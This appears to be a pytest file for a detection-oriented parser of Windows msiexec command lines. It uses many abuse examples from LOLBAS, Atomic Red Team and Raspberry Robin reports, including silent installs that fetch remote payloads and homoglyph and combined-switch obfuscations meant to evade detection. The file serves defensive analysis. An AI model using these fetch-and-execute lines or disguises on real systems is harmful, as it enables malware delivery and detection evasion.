"""What a command line makes msiexec do: a table of lines, each with its source, and what holds for any text.

Sources: Microsoft's pages OPTIONS, STANDARD and SERVER; ARGV for how Windows cuts arguments; NAMING for file names;
WINGET, in which Microsoft repeats msiexec's reading of its arguments; LOLBAS and ATOMIC (T1218.007) for abuse; SCAN, a
published try of `msiexec /y` with every character up to U+FFFE, and MODEL (ArgFuscator, Windows 11) for disguises.
A row without `disguised`, `unsure` or `cut` says that there is nothing of the kind.
"""

import re
from random import Random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ssa.language.functions.msiexec import msiexec_options
from ssa.language.functions.msiexec_reading import NAMES
from ssa.language.functions.places import place, server
from tests.support.soak import SEED, count, report

OPTIONS, STANDARD = "Command-Line Options", "Standard Installer Command-Line Options"
SERVER = "msiexec, Windows Server commands"
ARGV = "CommandLineToArgvW; Parsing C command-line arguments"
CREATE = "CreateProcessW"
WINGET = "winget-cli, MsiExecArguments.cpp"
LOLBAS, ATOMIC = "LOLBAS, Msiexec.yml", "Atomic Red Team, T1218.007"
SCAN = "wietze/windows-command-line-obfuscation, sample_results/msiexec.log"
MODEL = "ArgFuscator.net, models/windows/msiexec.json"
WINE = "Wine, programs/msiexec"
NAMING = "Naming Files, Paths, and Namespaces"
DAV = "DavGetHTTPFromUNCPath"
WINDOWS = "what Windows itself starts: the service's ImagePath, UninstallString, custom action servers"
RUSTUP = "rust-lang/rustup, issues 33 and 89: error 1639"
DEVON = "devonfw/IDEasy, issue 87: // is error 1639"
ROBIN = "Raspberry Robin as published: msiexec /Q/I with an address in quotes right behind"
ELASTIC = "elastic/protections-artifacts: the arguments -Q-I, /q-i, -q/i, /q/i of msiexec"
OURS = "not documented; ours, marked unsure"

DLL, CODE = r"C:\x.dll", "{1BCBF52C-CD1B-454D-AEF7-852F73967318}"
REGISTER = {"action": "register", "operand": DLL}
FETCH = {"action": "install", "actions": ["install"], "operand": "http://h.example:8080/a/B", "silent": True}
COMBINED = "several switches in one argument"


def hidden(how, **more):
    """A registration that is disguised, so that msiexec may not see it."""
    return {**REGISTER, "disguised": [how], "unsure": [how], **more}


def combined(**more):
    """What stands behind another switch of its argument: nobody has shown that msiexec reads it so, but for /i."""
    return {"disguised": [COMBINED], "unsure": [COMBINED], **more}


ROWS = [
    # -- registering and unregistering a module
    (OPTIONS, r"msiexec /y .\MY_FILE.DLL", {"action": "register", "operand": r".\MY_FILE.DLL", "location": "relative"}),
    (OPTIONS, r"msiexec /z .\MY_FILE.DLL", {"action": "unregister", "operand": r".\MY_FILE.DLL", "silent": False}),
    (LOLBAS, r'msiexec /y "C:\folder\evil.dll"', {"action": "register", "operand": r"C:\folder\evil.dll"}),
    (LOLBAS, r'msiexec /z "C:\folder\evil.dll"', {"action": "unregister", "location": "drive"}),
    (
        ATOMIC,
        r'c:\windows\system32\msiexec.exe /y "C:\a\src\MSIRunner.dll"',
        {"action": "register", "actions": ["register"]},
    ),
    (OPTIONS, rf"msiexec /Y {DLL}", REGISTER),
    (SCAN, rf"msiexec -y {DLL}", REGISTER),
    (WINGET, rf"msiexec -Z {DLL}", {"action": "unregister", "operand": DLL}),
    (WINGET, f"msiexec\t/y\t{DLL}", {**REGISTER, "disguised": ["unusual blanks"]}),
    (ARGV, rf"msiexec   /y    {DLL}", {**REGISTER, "disguised": ["unusual blanks"]}),
    (ARGV, rf'"C:\Windows\System32\msiexec.exe"  /y {DLL}', REGISTER),
    (WINGET, rf"msiexec /qn /y {DLL}", {**REGISTER, "ui": "none", "silent": True}),
    (OPTIONS, rf"msiexec /y {DLL} /q", {**REGISTER, "silent": True}),
    (
        STANDARD,
        "msiexec /y",
        {"action": "register", "operand": None, "location": "none", "unsure": ["missing operand"]},
    ),
    (STANDARD, 'msiexec /y ""', {"action": "register", "operand": None, "unsure": ["missing operand"]}),
    (
        STANDARD,
        "msiexec /i x.msi /y",
        {"action": "install", "operand": "x.msi", "unsure": ["missing operand", "several actions"]},
    ),
    (OPTIONS, rf"msiexec /y {DLL} /y b.dll", {**REGISTER, "operands": [DLL, "b.dll"], "unsure": ["several actions"]}),
    (OPTIONS, rf"msiexec /y {DLL} b.dll", {**REGISTER, "operands": [DLL], "unsure": ["stray argument"]}),
    # -- disguises, known not to work where they were tried, or not known
    (OURS, rf'msiexec "/y" {DLL}', hidden("quoted switch")),
    (SCAN, rf'msiexec /"y" {DLL}', hidden("quoted switch")),
    (
        OURS,
        rf'msiexec "-"y {DLL}',
        {
            "action": "install",
            "operand": "y",
            "disguised": ["quoted switch"],
            "unsure": ["quoted switch", "unknown switch", "no switch", "stray argument", "text after a quote"],
        },
    ),
    (SCAN, rf"msiexec –y {DLL}", hidden("look-alike dash")),
    (SCAN, rf"msiexec —y {DLL}", hidden("look-alike dash")),
    (SCAN, rf"msiexec ―y {DLL}", hidden("look-alike dash")),
    (SCAN, rf"msiexec −y {DLL}", hidden("look-alike dash")),
    (SCAN, rf"msiexec ∕y {DLL}", hidden("look-alike dash")),
    (SCAN, rf"msiexec ／y {DLL}", hidden("look-alike dash")),
    (SCAN, rf"msiexec /ʸ {DLL}", hidden("look-alike letter")),
    (SCAN, rf"msiexec /ｙ {DLL}", hidden("look-alike letter")),
    (SCAN, "msiexec /\u200by " + DLL, hidden("look-alike letter")),
    (OURS, "msiexec \xa0/y " + DLL, hidden("foreign blank")),
    (
        OURS,
        f'msiexec " /y" {DLL}',
        {**REGISTER, "disguised": ["quoted switch", "foreign blank"], "unsure": ["quoted switch", "foreign blank"]},
    ),
    (OURS, "msiexec \xa0 /y \xa0 " + DLL, {**REGISTER, "unsure": ["foreign blank"]}),
    (ARGV, "msiexec /y\n" + DLL, {**REGISTER, "disguised": ["unusual blanks"]}),
    (ARGV, "msiexec\r\n/y\r\n" + DLL + "\r\n", {**REGISTER, "disguised": ["unusual blanks"]}),
    (WINE, rf"msiexec /y{DLL}", hidden("glued operand")),
    (WINE, rf'msiexec /y"{DLL}"', hidden("glued operand")),
    (WINE, rf"msiexec /y:{DLL}", hidden("glued operand")),
    (WINE, rf"msiexec /y={DLL}", hidden("glued operand")),
    (OURS, rf"msiexec /y: {DLL}", hidden("glued operand")),
    (OURS, "msiexec /i:x.msi", {"operand": "x.msi", "disguised": ["glued operand"], "unsure": ["glued operand"]}),
    (OURS, "msiexec /y\u200b " + DLL, hidden("foreign blank")),
    (
        DEVON,
        rf"msiexec //y {DLL}",
        {"action": "install", "actions": ["install"], "unsure": ["unknown switch", "no switch"]},
    ),
    (WINGET, rf"msiexec / y {DLL}", {"action": "install", "unsure": ["unknown switch", "no switch", "stray argument"]}),
    (MODEL, "msiexec /ᵖᵃᶜᵏᵃᵍᵉ x.msi", {"action": "install", "operand": "x.msi", "disguised": ["look-alike letter"]}),
    (OPTIONS, "msiexec /pAcKaGe x.msi", {"action": "install", "disguised": ["mixed case"]}),
    (OPTIONS, "msiexec /PACKAGE x.msi /Quiet", {"action": "install", "silent": True}),
    (
        OPTIONS,
        rf"msiexec /x {CODE} /y {DLL}",
        {**REGISTER, "actions": ["uninstall", "register"], "unsure": ["several actions"]},
    ),
    (
        OPTIONS,
        rf"msiexec /i x.msi /z {DLL} /qn",
        {"action": "unregister", "operand": DLL, "unsure": ["several actions"]},
    ),
    # -- what is no switch: it stands in a value, a path or a name
    (
        OPTIONS,
        r'msiexec /i x.msi P="a /y C:\x.dll"',
        {"action": "install", "actions": ["install"], "properties": {"P": r"a /y C:\x.dll"}},
    ),
    (OPTIONS, r'msiexec /i "C:\a /y b\x.msi"', {"actions": ["install"], "operand": r"C:\a /y b\x.msi"}),
    (OPTIONS, r'msiexec /i "/y x.msi"', {"actions": ["install"], "operand": "/y x.msi"}),
    (OPTIONS, r"msiexec /i C:\tmp\a-y\x.msi", {"actions": ["install"], "operand": r"C:\tmp\a-y\x.msi"}),
    (OPTIONS, "msiexec /i https://h.example/y/x.msi", {"actions": ["install"], "location": "url"}),
    (OPTIONS, 'msiexec /i x.msi /l*v "C:\\logs\\a /y b.log"', {"actions": ["install"], "log": r"C:\logs\a /y b.log"}),
    (OPTIONS, 'msiexec /i x.msi P="a ""/y b"" c"', {"actions": ["install"], "properties": {"P": 'a "/y b" c'}}),
    (
        WINGET,
        rf"msiexec /i /y {DLL}",
        {"action": "install", "operand": "/y", "unsure": ["operand like a switch", "stray argument"]},
    ),
    (WINGET, "msiexec /l /y", {"action": "none", "log": "/y", "unsure": ["operand like a switch"]}),
    (
        NAMING,
        "msiexec /y /temp/x.dll",
        {"action": "register", "operand": "/temp/x.dll", "location": "rooted", "unsure": ["operand like a switch"]},
    ),
    (
        WINGET,
        rf"msiexec /i x.msi P=/y {DLL}",
        {"actions": ["install"], "properties": {"P": "/y"}, "unsure": ["stray argument"]},
    ),
    # -- installing
    (OPTIONS, r"msiexec /i A:\Example.msi", {"action": "install", "location": "drive", "remote": []}),
    (OPTIONS, r"msiexec /i A:\Example.msi Property=VALUE", {"properties": {"PROPERTY": "VALUE"}}),
    (OPTIONS, r"msiexec /i PROPERTY=VALUE A:\Example.msi", {"operand": "PROPERTY=VALUE", "unsure": ["stray argument"]}),
    (
        OPTIONS,
        r'msiexec /i A:\Example.msi PROPERTY="Embedded White Space"',
        {"properties": {"PROPERTY": "Embedded White Space"}},
    ),
    (OPTIONS, r'msiexec /i A:\Example.msi PROPERTY=""', {"properties": {"PROPERTY": ""}}),
    (
        OPTIONS,
        r'msiexec /i A:\Example.msi PROPERTY="Embedded ""Quotes"" White Space"',
        {"properties": {"PROPERTY": 'Embedded "Quotes" White Space'}},
    ),
    (
        OPTIONS,
        r'msiexec /i testdb.msi INSTALLLEVEL=3 /l* msi.log COMPANYNAME="Acme ""Widgets"" and ""Gizmos."""',
        {
            "action": "install",
            "log": "msi.log",
            "properties": {"INSTALLLEVEL": "3", "COMPANYNAME": 'Acme "Widgets" and "Gizmos."'},
        },
    ),
    (
        RUSTUP,
        r'msiexec /a x.msi /qn "TARGETDIR=D:\a b"',
        {"action": "administrative install", "properties": {"TARGETDIR": r"D:\a b"}, "unsure": ["quoted switch"]},
    ),
    (OURS, "msiexec /i x.msi A=1 a=2", {"properties": {"A": "2"}, "unsure": ["repeated property"]}),
    (
        SERVER,
        r'msiexec.exe /i "C:\example.msi" /qn',
        {"action": "install", "operand": r"C:\example.msi", "ui": "none", "silent": True},
    ),
    (SERVER, r'msiexec.exe /i "C:\example.msi" /norestart', {"action": "install", "ui": None, "silent": False}),
    (STANDARD, "msiexec /package Application.msi /passive", {"action": "install", "ui": "basic", "silent": True}),
    (STANDARD, "msiexec /package Application.msi /quiet", {"action": "install", "silent": True}),
    (STANDARD, "msiexec /package Application.msi /forcerestart /promptrestart", {"operand": "Application.msi"}),
    (WINDOWS, f"MsiExec.exe /I{CODE}", {"action": "install", "operand": CODE, "location": "product code"}),
    (WINDOWS, f"MsiExec.exe /X{CODE}", {"action": "uninstall", "operand": CODE, "location": "product code"}),
    (WINE, r'msiexec /i"C:\a b\x.msi"', {"action": "install", "operand": r"C:\a b\x.msi"}),
    (
        MODEL,
        "msiexec https:\\\\example.org/install.msi",
        {"action": "install", "location": "url", "unsure": ["no switch"]},
    ),
    (WINE, r"msiexec C:\x.msi /q", {"action": "install", "operand": r"C:\x.msi", "unsure": ["no switch"]}),
    (LOLBAS, "msiexec /quiet /i cmd.msi", {"action": "install", "operand": "cmd.msi", "location": "relative"}),
    (
        LOLBAS,
        "msiexec /q /i http://192.168.100.3/tmp/cmd.png",
        {"remote": ["http://192.168.100.3/tmp/cmd.png"], "silent": True},
    ),
    (
        LOLBAS,
        'msiexec /i "https://t.example/signed.msi" TRANSFORMS="https://e.example/evil.mst" /qb',
        {
            "transforms": ["https://e.example/evil.mst"],
            "remote": ["https://t.example/signed.msi", "https://e.example/evil.mst"],
            "ui": "basic",
            "silent": False,
        },
    ),
    (
        OPTIONS,
        r"msiexec /i A:\Example.msi PATCH=msipatch.msp;\\h\s\b.msp /qb",
        {"action": "install", "remote": [r"\\h\s\b.msp"]},
    ),
    (
        ATOMIC,
        r'c:\windows\system32\msiexec.exe /q /a "C:\x.msi"',
        {"action": "administrative install", "operand": r"C:\x.msi"},
    ),
    (ATOMIC, r'c:\windows\system32\msiexec.exe /q /j "C:\x.msi"', {"action": "advertise", "operand": r"C:\x.msi"}),
    # -- several switches in one argument
    (ROBIN, 'msiexec /Q/I"http://h.example:8080/a/B"', {**FETCH, "disguised": [COMBINED]}),
    (ROBIN, 'MSIEXEC /q/I "http://h.example:8080/a/B"', {**FETCH, "disguised": [COMBINED]}),
    (ROBIN, 'msiexec /Q/I"http://h.example:8080/a/B"/l*v', {**FETCH, "log": None, "disguised": [COMBINED]}),
    *(
        (ELASTIC, f"msiexec.exe {switches} http://h.example:8080/a/B", {**FETCH, "disguised": [COMBINED]})
        for switches in ("-Q-I", "/q-i", "-q/i", "/q/i", "/i/q", "/qn/i", "/qb-!-i", "/quiet/package", "/norestart-q-i")
    ),
    *(
        (OURS, line, combined(**REGISTER, silent=True))
        for line in (
            rf"msiexec /q/y {DLL}",
            rf"msiexec -qn-y {DLL}",
            rf"msiexec /y/q {DLL}",
            rf"msiexec /Q/L*V/Y {DLL} l",
        )
    ),
    (OURS, rf"msiexec /q/z {DLL}", combined(action="unregister", operand=DLL, silent=True)),
    (OURS, f"msiexec /x{CODE}/qn", combined(action="uninstall", operand=CODE, silent=True)),
    (OURS, "msiexec /q/p a.msp", combined(action="patch", operand="a.msp")),
    (OURS, "msiexec /q/a x.msi", combined(action="administrative install", operand="x.msi")),
    (OURS, "msiexec /q/jm x.msi", combined(action="advertise", operand="x.msi")),
    (OURS, f"msiexec /q/fa {CODE}", combined(action="repair", operand=CODE)),
    (OURS, "msiexec /t/i a.mst x.msi", {"operand": "a.mst", "transforms": ["x.msi"], "disguised": [COMBINED]}),
    (OURS, rf"msiexec /k/y {DLL}", combined(**REGISTER, unsure=["unknown switch", COMBINED])),
    (
        OURS,
        rf'msiexec /q/y"{DLL}"',
        {**REGISTER, "disguised": [COMBINED, "glued operand"], "unsure": ["glued operand", COMBINED]},
    ),
    (
        OURS,
        rf'msiexec "/q/y" {DLL}',
        {**REGISTER, "disguised": ["quoted switch", COMBINED], "unsure": ["quoted switch", COMBINED]},
    ),
    (OURS, rf"msiexec/q/y {DLL}", combined(**REGISTER, silent=True, unsure=[COMBINED, "where the program ends"])),
    (
        OURS,
        'msiexec.exe/i"http://h.example:8080/a/B"',
        {**FETCH, "silent": False, "unsure": ["where the program ends"]},
    ),
    (NAMING, "msiexec /yC:/q/x.dll", hidden("glued operand", operand="C:/q/x.dll")),
    (NAMING, "msiexec /ihttp://h/q/i", {"action": "install", "operand": "http://h/q/i", "silent": False}),
    # -- the other actions
    (
        OPTIONS,
        "msiexec /JM msisample.msi /T transform.mst /LIME logfile.txt",
        {"action": "advertise", "transforms": ["transform.mst"], "log": "logfile.txt"},
    ),
    (
        OPTIONS,
        "msiexec /JM msisample.msi /T :instance1.mst;customization.mst /c /LIME logfile.txt",
        {"transforms": [":instance1.mst", "customization.mst"], "operand": "msisample.msi"},
    ),
    (OPTIONS, "msiexec /ju x.msi /g 1033", {"action": "advertise", "operand": "x.msi"}),
    (
        OPTIONS,
        "msiexec /p msipatch.msp;msipatch2.msp /n {00000001-0002-0000-0000-624474736554} /qb",
        {"action": "patch", "operand": "msipatch.msp", "operands": ["msipatch.msp", "msipatch2.msp"]},
    ),
    (
        OPTIONS,
        r"msiexec /p a.msp /a x.msi",
        {"action": "patch", "operand": "a.msp", "actions": ["patch", "administrative install"]},
    ),
    (SERVER, r'msiexec.exe /update "C:\MyPatch.msp"', {"action": "patch", "operand": r"C:\MyPatch.msp"}),
    (
        SERVER,
        f"msiexec.exe /uninstall {CODE} /package {{AAD3D77A-7476-469F-ADF4-04424124E91D}}",
        {"action": "uninstall", "operand": CODE},
    ),
    (
        STANDARD,
        "msiexec /package Application.msi /uninstall msipatch.msp",
        {"action": "uninstall", "operand": "msipatch.msp"},
    ),
    (STANDARD, "Msiexec /uninstall Application.msi /quiet", {"action": "uninstall", "operand": "Application.msi"}),
    (SERVER, f"msiexec.exe /fa {CODE}", {"action": "repair", "operand": CODE}),
    (OPTIONS, "msiexec /fomus x.msi", {"action": "repair", "operand": "x.msi"}),
    (OPTIONS, "msiexec /f x.msi", {"action": "repair", "operand": "x.msi"}),
    (
        OURS,
        f"msiexec /fomus{CODE}",
        {"action": "repair", "operand": CODE, "disguised": ["glued operand"], "unsure": ["glued operand"]},
    ),
    (OPTIONS, "msiexec /i x.msi /m status", {"action": "install", "operand": "x.msi"}),
    (OPTIONS, "msiexec /?", {"action": "help", "operand": None}),
    (STANDARD, "msiexec /help", {"action": "help"}),
    (OPTIONS, "msiexec /h", {"action": "help"}),
    (
        WINDOWS,
        r"C:\Windows\system32\msiexec.exe /V",
        {"action": "service", "operand": None, "program": r"C:\Windows\system32\msiexec.exe"},
    ),
    (
        WINDOWS,
        r"C:\Windows\syswow64\MsiExec.exe -Embedding 9F17CF72F57573D6B6AE5214F745A83C E Global\MSI0000",
        {"action": "embedding", "operand": "9F17CF72F57573D6B6AE5214F745A83C", "location": "none"},
    ),
    (WINE, "msiexec /regserver", {"action": "register service"}),
    (WINE, "msiexec /unregister", {"action": "unregister service"}),
    (WINE, 'msiexec /@ "ident"', {"action": "unknown", "unsure": ["arguments in the registry"]}),
    (STANDARD, "msiexec /k", {"action": "unknown", "unsure": ["unknown switch"]}),
    (STANDARD, "msiexec", {"action": "none", "program": "msiexec", "actions": []}),
    (STANDARD, "msiexec /qn A=1", {"action": "none", "silent": True}),
    (ARGV, "", {"action": "none", "program": None}),
    # -- levels of the user interface, logs
    (OPTIONS, "msiexec /i x.msi /q", {"ui": "none", "silent": True}),
    (OPTIONS, "msiexec /i x.msi /qn+", {"ui": "none", "silent": True}),
    (OPTIONS, "msiexec /i x.msi /qb", {"ui": "basic", "silent": False}),
    (STANDARD, "msiexec /i x.msi /qb!-", {"ui": "basic", "silent": True}),
    (OPTIONS, "msiexec /i x.msi /QR", {"ui": "reduced", "silent": False}),
    (OPTIONS, "msiexec /i x.msi /qf", {"ui": "full", "silent": False}),
    (WINGET, "msiexec /i x.msi /qx", {"ui": None, "unsure": ["unknown switch"]}),
    (WINGET, 'msiexec /i x.msi /l"i" "quoted path.txt"', {"log": "quoted path.txt"}),
    (WINGET, "msiexec /i x.msi /li first.txt /le second.txt", {"log": "second.txt"}),
    (WINGET, "msiexec /i x.msi /lz C:\\l.txt", {"log": None, "unsure": ["unknown switch", "stray argument"]}),
    (STANDARD, "msiexec /i x.msi /log l.txt", {"log": "l.txt"}),
    # -- the program
    (
        CREATE,
        rf"C:\Program Files\my tool.exe /y {DLL}",
        {**REGISTER, "program": r"C:\Program Files\my tool.exe", "unsure": ["where the program ends"]},
    ),
    (CREATE, rf'"C:\Program Files\my tool.exe" /y {DLL}', {**REGISTER, "program": r"C:\Program Files\my tool.exe"}),
    (CREATE, rf"C:\Windows\System32\msiexec /y {DLL}", {**REGISTER, "program": r"C:\Windows\System32\msiexec"}),
    (CREATE, rf"renamed.tmp /y {DLL}", {**REGISTER, "program": "renamed.tmp"}),
    (ARGV, rf" /y {DLL}", {**REGISTER, "program": None, "unsure": ["where the program ends"]}),
    (ARGV, rf"/y {DLL}", {**REGISTER, "program": None, "unsure": ["where the program ends"]}),
    (ARGV, rf'"" /y {DLL}', {**REGISTER, "program": ""}),
    (OURS, rf'"msiexec"/y {DLL}', {**REGISTER, "unsure": ["where the program ends"]}),
    (OURS, rf"msiexec.exe/y {DLL}", {**REGISTER, "program": "msiexec.exe", "unsure": ["where the program ends"]}),
    (NAMING, rf"C:/Windows/msiexec/msiexec.exe /y {DLL}", {**REGISTER, "program": "C:/Windows/msiexec/msiexec.exe"}),
    # -- quotes
    (WINGET, r'msiexec /y "C:\a b.dll', {"action": "register", "operand": r"C:\a b.dll", "cut": True}),
    (WINGET, r'msiexec /i x.msi P="a b /y C:\x.dll', {"actions": ["install"], "cut": True}),
    (WINGET, r'msiexec /y "C:\a"b.dll', {"operand": r"C:\a", "unsure": ["stray argument", "text after a quote"]}),
    (ARGV, rf'msiexec /i "C:\a\" /y {DLL}', {**REGISTER, "unsure": ["several actions", "backslash before a quote"]}),
    (WINE, 'msiexec /i "x.msi"P=1', {"operand": "x.msi", "properties": {"P": "1"}, "unsure": ["text after a quote"]}),
    (ARGV, rf"msiexec /^y {DLL}", {"action": "install", "unsure": ["unknown switch", "no switch"]}),
]

PLACES = {
    "": "none",
    "x.dll": "relative",
    r"..\..\x.dll": "relative",
    r"C:x.dll": "relative",
    r"C:\x.dll": "drive",
    "c:/x.dll": "drive",
    r"C:\x.txt:x.dll": "drive",
    r"\\?\C:\x.dll": "drive",
    r"\temp\x.dll": "rooted",
    r"\\host\share\x.dll": "unc",
    "//host/share/x.dll": "unc",
    r"\\?\UNC\host\share\x.dll": "unc",
    r"\\host@SSL@443\DavWWWRoot\x.dll": "webdav",
    r"\\host@8080\x.dll": "webdav",
    r"\\host\DavWWWRoot\x.dll": "webdav",
    r"\\?\UNC\host@80\x.dll": "webdav",
    r"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\x.dll": "device",
    r"\\.\pipe\x": "device",
    "http://h/x": "url",
    r"HTTPS:\\h\x": "url",
    "https:/h/x": "url",
    "file:///C:/x.msi": "url",
    "ms-appinstaller://h": "url",
    CODE: "product code",
    CODE.lower(): "product code",
    CODE[:-1]: "relative",
}

SERVERS = {
    "https://Dl.Vendor.example/a.msi": "dl.vendor.example",
    "http://h.example:8080/a": "h.example",
    "http://192.0.2.7": "192.0.2.7",
    "ftp://h?x": "h",
    r"\\Files\deploy\x.msi": "files",
    "//files/deploy/x.msi": "files",
    r"\\h.example@SSL@8443\DavWWWRoot\x.msi": "h.example",
    # Another machine than the one that it seems, or nobody knows which.
    "https://dl.vendor.example@h.example/a.msi": "",
    r"https://dl.vendor.example\@h.example/a.msi": "",
    r"https:\\dl.vendor.example\a.msi": "",
    "https:/dl.vendor.example/a.msi": "",
    "https://dl.vendor.example%2fh.example/a.msi": "",
    "https://dl.vendor.ex\u200bample/a.msi": "",
    "https://[2001:db8::1]/a.msi": "",
    r"\\?\UNC\h\s\x.msi": "",
    "file:///C:/x.msi": "",
    r"C:\x.msi": "",
    "": "",
}


@pytest.mark.parametrize("path", SERVERS)
def test_a_server_is_named_only_where_nothing_is_in_doubt(path):
    assert server(path) == SERVERS[path]


def test_the_servers_of_all_remote_files_are_named():
    line = (
        r'msiexec /i "https://t.example/s.msi" TRANSFORMS="https://e.example/e.mst;\\h\s\f.mst;https://t.example/b" /qb'
    )
    assert msiexec_options(line)["servers"] == ["t.example", "e.example", "h"]


@pytest.mark.parametrize(("source", "line", "expected"), ROWS, ids=[f"{source}: {line}" for source, line, _ in ROWS])
def test_a_line_is_read_as_its_source_documents(source, line, expected):
    options = msiexec_options(line)
    expected = {"disguised": [], "unsure": [], "cut": False, **expected}
    assert {key: options[key] for key in expected} == expected
    assert source


@pytest.mark.parametrize("path", PLACES)
def test_a_place_is_known_by_the_form_of_the_path(path):
    assert place(path) == PLACES[path]


# -- any text

TYPES = {
    "program": (str, type(None)),
    "action": str,
    "actions": list,
    "operand": (str, type(None)),
    "operands": list,
    "location": str,
    "remote": list,
    "servers": list,
    "transforms": list,
    "properties": dict,
    "log": (str, type(None)),
    "ui": (str, type(None)),
    "silent": bool,
    "cut": bool,
    "disguised": list,
    "unsure": list,
}
ODD = (
    "\0",
    "\ud800",
    "\U0001f4a5",
    "\u0130",
    "\u017f",
    "\u200b",
    "\u0301",
    "\xa0",
    "\n",
    "ﬀ",
    "ﷺ",
    "ʸ",
    "–",
    "／",
    "`",
)
PIECES = (
    *(
        f"{start}{name}"
        for start in "/-–"
        for name in ("y", "Z", "i", "x", "p", "a", "q", "qn", "l*", "fa", "j", "n", "@", *NAMES)
    ),
    *(
        "msiexec",
        ".exe",
        "/",
        "-",
        '"',
        '""',
        " ",
        "  ",
        "\t",
        "\\",
        "=",
        ":",
        ";",
        "P=",
        "TRANSFORMS=",
        "PATCH=",
        "{",
        CODE,
    ),
    *(DLL, "x.msi", "https://h/x", r"\\h@SSL\x", "C:\\a b\\x.exe", "y", "A", *ODD),
)


def check(options):
    """What holds for every result."""
    assert options.keys() == TYPES.keys()
    assert all(isinstance(options[key], kind) for key, kind in TYPES.items())
    assert options["operand"] == (options["operands"][0] if options["operands"] else None)
    assert options["action"] in options["actions"] or options["action"] in ("none", "unknown")
    assert (options["location"] == "none") >= (options["operand"] is None)
    assert "" not in (*options["operands"], *options["transforms"], *options["remote"])


def any_text(random):
    """Return a text of switches, quotes and blanks in any order, or of any characters."""
    if random.random() < 0.7:
        return "".join(random.choice(PIECES) + random.choice(("", " ")) for _ in range(random.randrange(12)))
    return "".join(chr(random.randrange(random.choice((128, 0x3000, 0x110000)))) for _ in range(random.randrange(60)))


def test_any_text_has_an_answer():
    random, number = Random(SEED), count(2_000, 200_000)
    for _ in range(number):
        check(msiexec_options(any_text(random)))
    report(f"{number:,} command lines of any text")


LONG = 1_000_000
SHAPES = (
    *(
        '"',
        '""',
        " ",
        "\t",
        "/",
        "-",
        "/y",
        "/y ",
        '"/y" ',
        "/q/",
        "a",
        "a=",
        "a= ",
        ";",
        "\\",
        '\\"',
        "@",
        ":",
        "\u0301",
        "ʸ",
        "\0",
    ),
    *("/\u0301", '"a" ', 'a"', "/x{", "C:\\a ", "TRANSFORMS=a; ", "msiexec.exe", ".exe/"),
    *("/q/y", "/y/q", '/i"a"', "/x{}", "/q-", "/l*", "/f/l", "/yC:/q", "msiexec/q", ".exe/q/", "/y/", "\r\n"),
)


@pytest.mark.parametrize("shape", SHAPES)
def test_a_line_of_a_million_characters_has_an_answer(shape):
    """What goes back over the line again and again would need hours here; no clock is needed."""
    many = (shape * (LONG // len(shape) + 1))[: LONG if shape in ("a", " ") else LONG // 4]
    for line in (f"msiexec {many}", f"msiexec /y {many}x"):
        check(msiexec_options(line))


# -- what a disguise does not change

OPERANDS = st.sampled_from([DLL, "x.msi", r"..\x.dll", "https://h.example/x", r"\\h\s\x.msi", CODE, "a;b"])
ACTIONS = st.sampled_from(["y", "z", "i", "x", "a", "j", "jm", "f", "fa", "p", "package", "uninstall", "update"])
OTHERS = st.sampled_from(
    [["/qn"], ["-quiet"], ["/l*v", "x.log"], ["A=1"], ["TRANSFORMS=a;b"], ["/norestart"], ["/k"], ["b"]]
)
SPACES = st.text(" \t", min_size=1, max_size=4)
DEFINITE = ("action", "actions", "operand", "operands", "location", "remote", "transforms", "log", "ui", "silent")


@st.composite
def words(draw, others=2):
    """Arguments of msiexec, those of an action among others; at most so many `others` stand in one with its switch."""
    before = "".join(draw(st.lists(st.sampled_from(["/q", "-qn", "/QB-", "/quiet", "-norestart"]), max_size=others)))
    action = [before + draw(st.sampled_from("/-")) + draw(ACTIONS), draw(OPERANDS)]
    before, after = (draw(st.lists(OTHERS, max_size=2)) for _ in range(2))
    return [word for group in (*before, action, *after) for word in group]


def same_answer(line, other, keys=DEFINITE):
    options, expected = msiexec_options(other), msiexec_options(line)
    assert {key: options[key] for key in keys} == {key: expected[key] for key in keys}


def swapped(text):
    """Change the case of ASCII letters; others may become several."""
    return re.sub("[A-Za-z]+", lambda run: run[0].swapcase(), text)


@settings(max_examples=count(200, 5_000))
@given(words(), st.data())
def test_quoting_arguments_changes_nothing(found, data):
    quoted = [f'"{word}"' if data.draw(st.booleans()) else word for word in found]
    same_answer(" ".join(["msiexec", *found]), " ".join(["msiexec", *quoted]))


@settings(max_examples=count(200, 5_000))
@given(words(), st.data())
def test_more_blanks_change_nothing(found, data):
    spaced = "".join(data.draw(SPACES) + word for word in found)
    same_answer(" ".join(["msiexec", *found]), f"{data.draw(SPACES | st.just(''))}msiexec{spaced}{data.draw(SPACES)}")


@settings(max_examples=count(200, 5_000))
@given(words(), st.data())
def test_the_case_of_switches_changes_nothing(found, data):
    changed = [data.draw(st.sampled_from([str.upper, str.lower, str.title]))(w) if w[0] in "/-" else w for w in found]
    same_answer(" ".join(["msiexec", *found]), " ".join(["msiexec", *changed]))


@settings(max_examples=count(200, 5_000))
@given(words(others=0), st.data())
def test_no_dash_and_no_letter_that_looks_like_it_hides_an_action(found, data):
    dashes = str.maketrans({"/": data.draw(st.sampled_from("/-–—―−∕／"))})
    letters = str.maketrans("yziapx", data.draw(st.sampled_from(["yziapx", "ʸᶻⁱᵃᵖˣ", "ｙｚｉａｐｘ", "YZIAPX"])))
    changed = [
        word[0].translate(dashes) + word[1].translate(letters) + word[2:] if word[0] in "/-" else word for word in found
    ]
    same_answer(" ".join(["msiexec", *found]), " ".join(["msiexec", *changed]), ("action", "actions", "operand"))


@settings(max_examples=count(300, 10_000))
@given(st.integers(0, 2**32))
def test_blanks_and_case_change_no_action_in_any_text(number):
    text = any_text(Random(number))
    for other in (swapped(text), text.replace(" ", "  "), f"  {text}\t "):
        same_answer(text, other, ("action", "actions"))


@settings(max_examples=count(300, 10_000))
@given(st.integers(0, 2**32), st.integers(0, 11))
def test_quoting_changes_no_action_in_any_text(number, which):
    words = re.split("[ \t\r\n]+", any_text(Random(number)).replace('"', "").strip(" \t\r\n"))
    quoted = [f'"{word}"' if at == which else word for at, word in enumerate(words)]
    same_answer(" ".join(["msiexec.exe", *words]), " ".join(["msiexec.exe", *quoted]), ("action", "actions"))
